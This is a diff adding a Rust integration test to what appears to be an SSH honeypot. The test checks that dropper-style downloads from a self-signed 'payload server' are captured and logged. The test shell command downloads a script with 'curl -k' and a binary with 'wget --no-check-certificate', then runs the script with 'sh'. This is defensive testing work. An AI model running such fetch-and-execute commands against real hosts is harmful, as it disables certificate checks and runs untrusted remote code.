@@ -490,3 +490,163 @@ async fn egress_https_a_dropper_fetches_its_second_stage_over_https_by_name() {
     assert!(requests.contains(&"/second.bin".to_owned()), "{requests:?}");
     assert!(requests.contains(&"/py.bin".to_owned()), "{requests:?}");
 }
+
+/// A self-signed certificate for `name`, made in `dir` as a payload server's
+/// operator makes one (`openssl req -x509`): the certificate and its key (PEM), and
+/// the certificate's DER.
+pub(crate) fn self_signed(dir: &std::path::Path, name: &str) -> (Vec<u8>, Vec<u8>, Vec<u8>) {
+    let subject = format!("/O=Payload Hosting/CN={name}");
+    let san = format!("subjectAltName=DNS:{name}");
+    openssl(
+        dir,
+        &[
+            "req",
+            "-x509",
+            "-newkey",
+            "ec",
+            "-pkeyopt",
+            "ec_paramgen_curve:P-256",
+            "-nodes",
+            "-days",
+            "30",
+            "-subj",
+            &subject,
+            "-addext",
+            &san,
+            "-keyout",
+            "self.key",
+            "-out",
+            "self.pem",
+        ],
+    );
+    let der = openssl(dir, &["x509", "-in", "self.pem", "-outform", "DER"]);
+    let cert = std::fs::read(dir.join("self.pem")).expect("certificate");
+    let key = std::fs::read(dir.join("self.key")).expect("key");
+    (cert, key, der)
+}
+
+/// A payload server with a self-signed certificate, reached by name from the box
+/// with upstream verification on (the default): `curl -k` and `wget
+/// --no-check-certificate` get the body, which is kept with the sha256 served; plain
+/// `curl` fails its certificate check (exit 60) as it would against the real server,
+/// nothing is asked of the server for it and nothing is kept; every event says the
+/// upstream certificate did not verify, and names it.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn egress_https_a_self_signed_server_serves_curl_k_and_wget_but_plain_curl_fails_as_it_would()
+{
+    require_docker!();
+    let pki = tempfile::tempdir().expect("dir");
+    let (cert, key, der) = self_signed(pki.path(), "selfsigned.test");
+    let with_k = b"#!/bin/sh\necho fetched with curl -k\n".to_vec();
+    let with_wget: Vec<u8> = (0..9000u32).map(|i| (i * 13 % 251) as u8).collect();
+    let verified = b"never fetched\n".to_vec();
+    let internet = TestInternet::start_with(
+        "selfsigned",
+        &[
+            ("k.sh", with_k.clone()),
+            ("w.bin", with_wget.clone()),
+            ("v.bin", verified.clone()),
+        ],
+        Some((&cert, &key)),
+    );
+    let server = internet.server;
+    let hermes = Hermes::start(Options::default().configure(move |c| {
+        c.egress.mode = EgressMode::Fetch;
+        c.capture.enabled = true;
+        c.egress.dns.static_only = true;
+        c.egress.dns.static_hosts = [("selfsigned.test".to_owned(), server.into())]
+            .into_iter()
+            .collect();
+        c.egress.upstream_allow =
+            vec![AddressBlock::parse(&format!("{server}/32")).expect("block")];
+        assert!(c.egress.tls.verify_upstream, "the default verifies");
+    }));
+    let (_client, mut shell) = crate::client::root_shell(hermes.port).await;
+    let out = run(
+        &mut shell,
+        "curl -sS -k --max-time 20 -o /tmp/k.sh https://selfsigned.test/k.sh; echo k rc=$?; \
+         wget -q -t 1 -T 20 --no-check-certificate -O /tmp/w.bin https://selfsigned.test/w.bin; echo w rc=$?; \
+         curl -sS --max-time 20 -o /tmp/v.bin https://selfsigned.test/v.bin; echo v rc=$?; \
+         sh /tmp/k.sh; sha256sum /tmp/w.bin | cut -c1-64; test -e /tmp/v.bin || echo no v.bin",
+    )
+    .await;
+    let text = out.join("\n");
+    assert!(out.contains(&"k rc=0".to_owned()), "{text}");
+    assert!(out.contains(&"w rc=0".to_owned()), "{text}");
+    assert!(out.contains(&"v rc=60".to_owned()), "{text}");
+    assert!(
+        text.contains("SSL certificate problem: self-signed certificate"),
+        "curl's own words: {text}"
+    );
+    assert!(out.contains(&"fetched with curl -k".to_owned()), "{text}");
+    let wget_sha = crate::harness::sha256_hex(&with_wget);
+    assert!(out.contains(&wget_sha), "{text}");
+    assert!(out.contains(&"no v.bin".to_owned()), "{text}");
+
+    let download = |url: &str| {
+        let events = hermes.wait_for_events(&format!("the download of {url}"), |events| {
+            events
+                .iter()
+                .any(|e| e["eventid"] == "cowrie.session.file_download" && e["url"] == url)
+        });
+        events
+            .into_iter()
+            .find(|e| e["eventid"] == "cowrie.session.file_download" && e["url"] == url)
+            .expect("the download")
+    };
+    let cert_sha = crate::harness::sha256_hex(&der);
+    for (url, body) in [
+        ("https://selfsigned.test/k.sh", &with_k),
+        ("https://selfsigned.test/w.bin", &with_wget),
+    ] {
+        let event = download(url);
+        assert_eq!(event["shasum"], crate::harness::sha256_hex(body), "{event}");
+        let stored = event["outfile"].as_str().expect("outfile");
+        assert_eq!(&std::fs::read(stored).expect("stored"), body);
+        assert_eq!(event["sni"], "selfsigned.test", "{event}");
+        assert_eq!(event["upstream"], format!("{server}:443"));
+        assert_eq!(event["upstream_cert_sha256"], cert_sha.as_str(), "{event}");
+        assert_eq!(
+            event["upstream_cert_subject"],
+            "O=Payload Hosting, CN=selfsigned.test"
+        );
+        assert_eq!(event["upstream_cert_verified"], false, "{event}");
+        assert!(
+            event["upstream_cert_error"]
+                .as_str()
+                .is_some_and(|e| !e.is_empty()),
+            "{event}"
+        );
+    }
+    // Plain curl: refused in its handshake, the reason in the event, nothing kept.
+    let failed = hermes.wait_for_events("plain curl's failure", |events| {
+        events.iter().any(|e| {
+            e["eventid"] == "cowrie.session.file_download.failed"
+                && e["url"] == "https://selfsigned.test/"
+        })
+    });
+    let failure = failed
+        .iter()
+        .find(|e| {
+            e["eventid"] == "cowrie.session.file_download.failed"
+                && e["url"] == "https://selfsigned.test/"
+        })
+        .expect("the failure");
+    assert_eq!(failure["reason"], "tls_handshake", "{failure}");
+    assert_eq!(failure["sni"], "selfsigned.test", "{failure}");
+    assert_eq!(failure["upstream_cert_verified"], false, "{failure}");
+    assert_eq!(failure["upstream_cert_sha256"], cert_sha.as_str());
+    let verified_sha = crate::harness::sha256_hex(&verified);
+    assert!(
+        !hermes
+            .events_of("cowrie.session.file_download")
+            .iter()
+            .any(|e| e["shasum"] == verified_sha.as_str()
+                || e["url"].as_str().is_some_and(|u| u.contains("v.bin"))),
+        "nothing of v.bin is kept"
+    );
+    let (requests, _) = internet.stats();
+    assert!(requests.contains(&"/k.sh".to_owned()), "{requests:?}");
+    assert!(requests.contains(&"/w.bin".to_owned()), "{requests:?}");
+    assert!(!requests.contains(&"/v.bin".to_owned()), "{requests:?}");
+}
